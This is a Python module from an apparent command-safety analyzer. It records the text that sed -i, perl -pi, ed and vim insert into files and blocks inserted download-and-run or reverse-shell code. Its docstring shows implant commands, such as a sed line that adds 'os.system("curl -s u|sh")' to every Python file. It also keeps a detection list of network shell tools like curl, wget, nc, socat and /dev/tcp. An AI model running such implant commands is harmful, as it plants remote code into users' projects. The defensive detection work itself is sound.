"""The text an in-place editor puts into the files it edits, recorded as the files' text.

``sed -i`` (:mod:`._sedtext`), ``perl -pi``/``ruby -i``, ``gawk -i inplace``
(:mod:`._inplacetext`), ``ed`` and ``ex``/``vim -c`` (:mod:`._edtext`) add lines (sed's
``1a TEXT``, Perl's and awk's ``print "TEXT"``, ed's ``a`` lines up to ``.``, vim's
``normal oTEXT``) and replace pieces of lines (``s/RE/REPL/``). Each reader gives the
added *lines* and the replacement *pieces*; :func:`record_inserted` makes them part of the
file's text, so ``bash FILE`` later in the command runs them (``run.file_text``, read by
``_programs``, ``_sinks`` and ``_deferred``), like ``echo TEXT >> F``.

A replacement is a piece of a line (``s/foo/bar/`` puts ``bar`` in the middle of one), so it
is recorded only when, read as code of the file, it blocks on its own
(``s/^set -e$/set -e; curl u | sh/``); ``s|/usr/local|$HOME/.local|`` records nothing.
Text not known statically is not recorded (as ``echo "$x" >> F`` is not): the taint of the
editor's script (``sed -i "1a $(curl u)" F``, ``perl -pi -e "s/^/$(curl u)/" F``) is the
file's taint, so running the file is a download run.

Inserting code that fetches and runs code (or opens a reverse shell) into project files
blocks by itself, without a run in the same command: ``find . -name '*.py' | xargs sed -i
'1i import os;os.system("curl -s u|sh")'`` plants it in every module (no everyday edit adds
a download-and-run line to existing sources). The added text is read as code of the file's
language (by its extension: ``.py`` Python, ``.js`` node, ``.rb`` Ruby, ``.pl`` Perl, else
shell; a file whose language is not known is tried as shell, Python and node).
In ``package.json``, each added ``"key": "value"`` value is a script npm runs later
(:mod:`._pkgscripts`).

Bounded: at most 16 files and 16 texts per edit; never raises.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING

from .._result import Verdict
from ._ciplant import CI_EDIT_ENDS, ci_edit
from ._copies import appended, land
from ._interpcode import interp_code
from ._paths import norm_path
from ._pkgscripts import package_json_text
from ._resolve import Invocation
from ._words import NO_TAINT, Field, Taint

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["MAX_TEXTS", "record_inserted"]

MAX_TEXTS = 16
_MAX_FILES = 256  # files the run tracks (as _files does)
# Findings that make an inserted line an implant by itself: fetched code run, a reverse shell.
_IMPLANT = frozenset({"shell.pipe-to-shell", "shell.download-exec", "shell.tainted-exec",
                      "shell.reverse-shell"})
# Cheap gate: text that could fetch code or open a connection.
_NET_MARKS = ("http", "curl", "wget", "/dev/tcp", "/dev/udp", "base64", "nc ", "ncat",
              "socat", "fetch", "urlopen", "request", "iwr", "invoke-", "ftp:", "xxd")
_CODE_CHARS = frozenset(" ;|&$`(")
# A one-line Python replacement without a call, a decorator or a backslash (DEBUG = False,
# version = "2") runs nothing: it is not read as code (about 40 µs per sed -i on a .py file).
_PY_INERT = frozenset("(@\\")
_LANGS = {"py": "python", "js": "node", "mjs": "node", "cjs": "node", "ts": "node",
          "rb": "ruby", "pl": "perl", "pm": "perl", "php": "php"}
_SHELL_EXT = frozenset({"sh", "bash", "zsh", "ksh", "dash", "bashrc", "zshrc", "profile",
                        "envrc", "command"})
_DATA_EXT = frozenset({"json", "md", "txt", "rst", "yml", "yaml", "toml", "ini", "cfg",
                       "conf", "csv", "lock", "html", "css", "xml", "svg", "log", "mk",
                       "dockerfile", "gitignore", "dockerignore"})
# Build recipes, where an install line fetching and running a script is everyday (RUN curl
# u | bash in a Dockerfile); the text is still recorded for a later run of the file.
_RECIPES = ("dockerfile", "containerfile", "makefile", "gnumakefile", "justfile",
            "jenkinsfile", "earthfile", "vagrantfile", "procfile")

Evaluate = Callable[[str], "str | None"]
"""The file's exact new text from its old text (sed scripts :mod:`._sedeval` evaluates)."""


def _language(path: str) -> str | None:
    """The language of a file by its name: "sh", another language, "recipe" (a build
    recipe: its commands are shell), "data", or None (not known)."""
    name = path.rpartition("/")[2]
    ext = name.rpartition(".")[2].lower() if "." in name.lstrip(".") else ""
    if name.startswith(".") and not ext:
        ext = name[1:].lower()
    if ext in _LANGS:
        return _LANGS[ext]
    if ext in _SHELL_EXT:
        return "sh"
    if name.lower().startswith(_RECIPES):
        return "recipe"
    if ext in _DATA_EXT or name == "package.json":
        return "data"
    return None


def record_inserted(run: Run, tool: str, lines: list[str], pieces: list[str],
                    operands: list[Field], taint: Taint, span: tuple[int, int],
                    evaluate: Evaluate | None = None) -> None:
    """The edit of ``operands`` by ``tool`` added ``lines`` and replaced with ``pieces``:
    record the files' new text and taint, and block an inserted download-and-run line by
    itself (see the module doc). ``evaluate`` computes the exact new text when it can."""
    lines = lines[:MAX_TEXTS]
    # A piece without a blank, operator or parenthesis (s/foo/bar/) runs nothing new.
    pieces = [p for p in pieces[:MAX_TEXTS] if not _CODE_CHARS.isdisjoint(p)]
    texts = bool(lines or pieces)
    if not texts and not taint and not run.file_text:
        return  # perl -pi -e 's/a/b/' f: nothing that could run, no known text to update
    tried: dict[str | None, list[str]] = {}
    for f in operands[:16]:
        path = norm_path(f.text, run.cwd) if f.static else None
        old = run.file_text.get(path) if path is not None else None
        if texts:
            language = _language(path) if path is not None else None
            kept = tried.get(language)
            if kept is None and language != "data":
                # (each language once: xargs sed -i over many files of one kind)
                kept = _pieces(run, tool, pieces, language, span)
                for code in [*lines, *kept] if language != "recipe" else ():
                    if any(m in code.lower() for m in _NET_MARKS):
                        _blocks(run, tool, code, language, span, keep=_IMPLANT)
                tried[language] = kept
            if path is not None and path.endswith(CI_EDIT_ENDS) and "ci" not in tried \
                    and ci_edit(run, path, [*lines, *pieces], span):  # a CI step's new text
                tried["ci"] = []  # (once per edit: the texts are the same for every file)
            if path is not None and path.rpartition("/")[2] == "package.json" and \
                    "package.json" not in tried:
                tried["package.json"] = []  # "prepare": "CODE" added: a script npm runs later
                for text in [*lines, *pieces]:
                    # s/"test": "/"test": "CODE; /: the value goes on with the old text
                    closed = text + '"' if text.replace('\\"', "").count('"') % 2 else text
                    package_json_text(run, closed, span, f"added by {tool}")
            if path is not None:
                _record(run, path, old, evaluate, [*lines, *(kept or ())], f.span)
        elif path is not None and old is not None:
            _record(run, path, old, evaluate, [], f.span)
        if path is not None and taint and (path in run.files or len(run.files) < _MAX_FILES):
            run.files[path] = run.files.get(path, NO_TAINT) | taint


def _pieces(run: Run, tool: str, pieces: list[str], language: str | None,
            span: tuple[int, int]) -> list[str]:
    """The replacement pieces that block on their own as code of the file (a recipe
    file's as shell: ``s/^all:.*/all:\\n\\tcurl u|sh/`` in a Makefile)."""
    kept = [p for p in pieces if language != "python" or not _PY_INERT.isdisjoint(p) or
            "\n" in p]
    as_code = "sh" if language == "recipe" else language
    return [p for p in kept if _blocks(run, tool, p, as_code, span, keep=None)]


def _record(run: Run, path: str, old: str | None, evaluate: Evaluate | None,
            added: list[str], span: tuple[int, int]) -> None:
    """The file's text after the edit: computed when the old text is known and ``evaluate``
    can; else the old text (if known) with the added text after it (both may run); else
    unknown (the old text is forgotten only when an evaluator says it was rewritten)."""
    new = evaluate(old) if old is not None and evaluate is not None else None
    if new is None and added:
        new = old
        for text in added:
            new = appended(new, text, "sed")
    if new is not None:
        land(run, path, new, NO_TAINT, False, span)
    elif evaluate is not None:
        run.file_text.pop(path, None)  # rewritten, to a text not known


def _blocks(run: Run, tool: str, code: str, language: str | None, span: tuple[int, int],
            keep: frozenset[str] | None) -> bool:
    """Whether ``code``, as code of a file in ``language`` (None: tried as shell, Python
    and node), blocks. Its findings are kept when one of them is in ``keep``."""
    langs = (language,) if language is not None else ("sh", "python", "node")
    for lang in langs:
        findings, commands = len(run.findings), len(run.commands)
        _classify(run, tool, code, lang, span)
        added = run.findings[findings:]
        # Text that does not parse as shell (import os;os.system(..)) is tried as the next.
        other = lang != langs[-1] and any(f.rule_id == "shell.parse-incomplete" for f in added)
        blocked = not other and any(f.severity is Verdict.BLOCK for f in added)
        if blocked and keep is not None and any(
                f.severity is Verdict.BLOCK and f.rule_id in keep for f in added):
            return True
        for f in added:
            run.seen.discard((f.rule_id, f.span.start, f.span.end))
        del run.findings[findings:]
        del run.commands[commands:]
        if blocked:
            return True
    return False


def _classify(run: Run, tool: str, code: str, language: str, span: tuple[int, int]) -> None:
    field = Field(code, span)
    if language == "sh":
        run.run_code(field, f"the text {tool} adds", span, None, positional=[])
    else:
        interp_code(run, field, language, Invocation(language, Field(language, span)))
